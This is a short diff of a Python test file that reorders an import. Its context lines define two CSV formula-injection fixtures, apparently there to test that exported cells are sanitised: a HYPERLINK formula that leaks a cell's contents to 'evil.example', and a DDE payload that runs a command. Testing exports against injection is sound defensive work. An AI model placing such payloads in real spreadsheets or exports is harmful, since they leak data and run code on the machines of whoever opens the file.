@@ -6,13 +6,14 @@ from __future__ import annotations
 import csv
 
 import pytest
+from whkit import generated_reports, item_of, migrated_engine, registry, replace
+
 from ogi.fetch.registry import Organ
 from ogi.model import ERROR, FAILED, RuleResult
 from ogi.pipeline import export_views
 from ogi.warehouse.load import RunInfo, load_batch
 from ogi.warehouse.outputs import safe_cell
 from ogi.warehouse.registry_sync import sync_registry
-from whkit import generated_reports, item_of, migrated_engine, registry, replace
 
 TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
 ORGAN = "@SUM(1+1)*cmd|' /C calc'!A0"
